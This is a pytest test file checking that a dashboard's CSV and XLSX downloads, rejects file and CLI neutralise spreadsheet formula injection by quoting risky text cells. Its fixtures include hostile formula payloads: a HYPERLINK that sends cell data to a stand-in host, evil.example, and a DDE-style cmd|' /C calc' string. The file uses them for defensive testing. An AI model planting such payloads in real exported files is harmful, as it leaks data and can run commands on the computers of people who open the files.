"""No exported file hands a spreadsheet a live formula from imported text (issue 20): every text cell that a
spreadsheet would read as a formula is neutralised, in the CSV and XLSX downloads, the rejects file and the CLI."""

import csv
import io
import re
import shutil
import tomllib
from datetime import date, datetime
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard.exports import csv_bytes, xlsx_bytes
from tests.import_files import ROOT, run_cli, write_csv

TODAY = date(2026, 11, 24)
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A3,"click")', "=1+1", "+SUM(1,1)", "@SUM(1,1)",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TRIGGERS = tuple("=+-@＝＋－＠")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9.,]*%?")


def _live(cell: str) -> bool:
    """True when a spreadsheet could read the cell as a formula: it begins with a tab or carriage return, or,
    after blanks, with a trigger, and is more than a plain number."""
    stripped = cell.lstrip()
    return cell.startswith(("\t", "\r")) or (stripped.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(stripped))


@pytest.mark.parametrize("text,expected", [
    ('=HYPERLINK("http://evil.example/?d="&A3,"click")', '\'=HYPERLINK("http://evil.example/?d="&A3,"click")'),
    ("=1+1", "'=1+1"),
    ("+SUM(1,1)", "'+SUM(1,1)"),
    ("@SUM(1,1)", "'@SUM(1,1)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\tplain", "'\tplain"),          # OWASP: a leading tab or carriage return, whatever follows
    ("\rplain", "'\rplain"),
    (" =1+1", "' =1+1"),              # blanks before a trigger: some programs trim them on import
    ("\n@SUM(1)", "'\n@SUM(1)"),
    ("\u3000+1+1", "'\u3000+1+1"),
    ("＝1+1", "'＝1+1"),               # full-width forms: Excel with an East Asian input method reads them as = + - @
    ("＋SUM(1)", "'＋SUM(1)"),
    ("－1+1", "'－1+1"),
    ("＠SUM(1)", "'＠SUM(1)"),
    ("-", "-"),                       # a plain number or a lone sign is no formula: left as written
    ("-5", "-5"),
    ("+66812345678", "+66812345678"),
    ("-1,234.50", "-1,234.50"),
    ("-3.2%", "-3.2%"),
    ("-5 วัน", "'-5 วัน"),             # but anything more after the sign is neutralised
    ("+66 81 234 5678", "'+66 81 234 5678"),
    ("'=1+1", "'=1+1"),               # already quoted: the quote is the neutraliser
    ("สัมมนาเชิงปฏิบัติการ", "สัมมนาเชิงปฏิบัติการ"),
    ("1+1", "1+1"),
    ("a=b", "a=b"),
    ("– ", "– "),                     # an en dash is not a minus sign
    ("", ""),
])
def test_inert_text_known_answers(text, expected):
    from dashboard.exports import inert_text

    assert inert_text(text) == expected


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")   # UTF-8 with BOM, for Excel on Thai Windows
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_inert_xlsx(content: bytes) -> list:
    cells = _xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c for c in cells if isinstance(c.value, str)]
    assert [c.value for c in texts if c.value.startswith("=") or _live(c.value)] == []
    assert all(c.quotePrefix for c in texts if c.value.startswith("'"))
    return cells


SAMPLE = pd.DataFrame({
    "=title": ["=1+1", "สัมมนา", "a\r=1+1", "#N/A", None],
    "count": [-5, 3, 0, 12, 7],
    "share_pct": [-2.5, 1.0, None, 3.25, 0.0],
    "day": [date(2026, 3, 1), date(2026, 3, 2), None, date(2026, 3, 4), date(2026, 3, 5)],
})


def test_csv_neutralises_text_and_headers_and_keeps_numbers():
    rows = _csv_rows(csv_bytes(SAMPLE))
    assert rows[0] == ["'=title", "count", "share_pct", "day"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "สัมมนา", "a\r=1+1", "#N/A", ""]   # a CR inside stays in its cell
    assert [r[1] for r in rows[1:]] == ["-5", "3", "0", "12", "7"]
    assert rows[1][2] == "-2.5" and rows[1][3] == "2026-03-01"


def test_xlsx_stores_text_as_text_and_keeps_numbers_dates_and_style():
    content = xlsx_bytes(SAMPLE, "seminars")
    _assert_inert_xlsx(content)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "seminars"
    assert [c.value for c in sheet[1]] == ["'=title", "count", "share_pct", "day"]
    assert all(c.font.bold for c in sheet[1]) and sheet["A1"].quotePrefix
    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix) == ("'=1+1", "s", True)
    assert (sheet["A3"].value, sheet["A3"].quotePrefix) == ("สัมมนา", False)
    assert (sheet["A5"].value, sheet["A5"].data_type) == ("#N/A", "s")       # text, not Excel's error value
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-5, "n")
    assert (sheet["C2"].value, sheet["C2"].data_type) == (-2.5, "n")
    assert sheet["D2"].is_date and sheet["D2"].value == datetime(2026, 3, 1)
    assert sheet.column_dimensions["A"].width >= 9


def test_xlsx_survives_control_characters_in_text():
    frame = pd.DataFrame({"title": ["bell\x07here", "=x\x01"]})
    values = [c.value for c in _assert_inert_xlsx(xlsx_bytes(frame))]
    assert values == ["title", "bell\ufffdhere", "'=x\ufffd"]


@pytest.fixture(scope="module")
def hostile_db(known_db, tmp_path_factory):
    """A copy of the hand-made database into which a hostile seminars file and feedback file were imported."""
    from dashboard.importer.pipeline import import_file

    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "hostile.duckdb"
    shutil.copyfile(known_db, path)
    seminars = [["seminar_id", "title", "start_date", "venue", "province_code", "planned_participants", "=1+1"]]
    seminars += [[f"H{i}", text, f"{i + 1}/3/2569", text, "ภูเก็ต", "20", text] for i, text in enumerate(HOSTILE)]
    seminars += [[f"X{i}", text, "1/3/2569", text, "Atlantis", "20", text] for i, text in enumerate(HOSTILE)]
    seminar_import = import_file("seminars", write_csv(folder / "seminars.csv", seminars), path, today=TODAY)
    assert (seminar_import.inserted, seminar_import.rejected) == (len(HOSTILE), len(HOSTILE))
    feedback = [["response_id", "seminar_id", "overall", "comment"]]
    feedback += [[f"FH{i}", "H0", "4", text] for i, text in enumerate(HOSTILE)]
    feedback += [[f"FX{i}", "H0", "9", text] for i, text in enumerate(HOSTILE)]
    feedback_import = import_file("feedback", write_csv(folder / "feedback.csv", feedback), path, today=TODAY)
    assert (feedback_import.inserted, feedback_import.rejected) == (len(HOSTILE), len(HOSTILE))
    _assert_stored_as_written(path)
    return path


def _import_ids(db: Path) -> dict[str, int]:
    import duckdb

    with duckdb.connect(str(db), read_only=True) as con:
        return dict(con.execute("SELECT kind, max(import_id) FROM import_log GROUP BY kind").fetchall())


def _assert_stored_as_written(db: Path) -> None:
    import duckdb

    with duckdb.connect(str(db), read_only=True) as con:
        titles = {t for (t,) in con.execute("SELECT title FROM seminars WHERE seminar_id LIKE 'H%'").fetchall()}
        comments = {c for (c,) in con.execute("SELECT comment FROM feedback WHERE response_id LIKE 'FH%'").fetchall()}
    assert titles == comments == {text.strip() for text in HOSTILE}   # the importer strips the tab and CR


def _seminar_listing(hostile_db) -> pd.DataFrame:
    from dashboard.db.connection import Database
    from dashboard.i18n import Translator
    from dashboard.scope import Filters
    from dashboard.seminars import seminars_of_year
    from dashboard.views.seminars import seminar_list

    database = Database(hostile_db)
    try:
        seminars = seminars_of_year(database, Filters(fiscal_year_be=2569))
    finally:
        database.close()
    return seminar_list(seminars, Translator("th"))


def test_the_seminars_download_has_no_live_formula(hostile_db):
    listing = _seminar_listing(hostile_db)
    title, venue = listing.columns[1], listing.columns[3]
    assert set(HOSTILE[:5]) <= set(listing[title]) and set(HOSTILE[:5]) <= set(listing[venue])

    rows = _csv_rows(csv_bytes(listing))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if _live(c)] == []
    for column in (1, 3):
        shown = {row[column] for row in rows[1:]}
        assert {"'" + text for text in HOSTILE[:5]} <= shown

    cells = _assert_inert_xlsx(xlsx_bytes(listing, "seminars"))
    texts = {c.value for c in cells if c.column in (2, 4)}
    assert {"'" + text for text in HOSTILE[:5]} <= texts
    numbers = [c for c in cells if c.row > 1 and c.column == 7]   # attendance %: a number, not text
    assert numbers and all(c.data_type == "n" for c in numbers)


def _rejects(db: Path, import_id: int) -> pd.DataFrame:
    from dashboard.db.connection import Database
    from dashboard.db.queries import sql

    database = Database(db)
    try:
        return database.query(sql("import_rejects"), {"import_id": import_id})
    finally:
        database.close()


@pytest.mark.parametrize("kind,columns", [("seminars", ("title", "venue", "'=1+1")), ("feedback", ("comment",))])
def test_the_rejects_file_has_no_live_formula(hostile_db, kind, columns):
    from dashboard.views.data import rejects_for_fixing

    rows = _csv_rows(csv_bytes(rejects_for_fixing(_rejects(hostile_db, _import_ids(hostile_db)[kind]))))
    assert len(rows) == 1 + len(HOSTILE)
    assert [c for row in rows for c in row if _live(c)] == []
    header = rows[0]
    for name in columns:
        assert [row[header.index(name)] for row in rows[1:]] == ["'" + text for text in HOSTILE]


def test_the_rejects_command_prints_no_live_formula(hostile_db):
    result = run_cli("rejects", _import_ids(hostile_db)["seminars"], "--db", hostile_db)
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert rows[0] == ["line_no", "reason", "raw"] and len(rows) == 1 + len(HOSTILE)
    assert [c for row in rows for c in row if _live(c)] == []
    assert any('"title": "=1+1"' in row[2] for row in rows[1:])   # the raw row, as JSON, keeps the text


def test_streamlit_table_toolbar_export_is_off():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_an_excel_export_says_what_it_is_above_a_frozen_filtered_header():
    """Issue 22, point 10: an Excel file had no title rows, no frozen header, no filter."""
    from openpyxl import load_workbook

    frame = pd.DataFrame({"จังหวัด": ["ภูเก็ต", "พังงา"], "ครอบคลุม (%)": [23.5, 56.2]})
    about = ("ทุกจังหวัดในขอบเขต", "ภาคใต้ · ปีงบประมาณ 2569 · ณ วันที่ 30 ก.ย. 2569", "ที่มา: แดชบอร์ดอาสาสมัครแรงงาน")
    ws = load_workbook(io.BytesIO(xlsx_bytes(frame, "coverage", title_lines=about))).active
    assert [ws.cell(row=r, column=1).value for r in range(1, 6)] == [*about, None, "จังหวัด"]
    assert ws.cell(row=1, column=1).font.bold and ws.cell(row=5, column=2).font.bold
    assert ws.freeze_panes == "A6" and ws.auto_filter.ref == "A5:B7"
    assert [ws.cell(row=7, column=c).value for c in (1, 2)] == ["พังงา", 56.2]
    plain = load_workbook(io.BytesIO(xlsx_bytes(frame))).active   # without title lines the header is row 1
    assert plain.cell(row=1, column=1).value == "จังหวัด" and plain.freeze_panes == "A2"
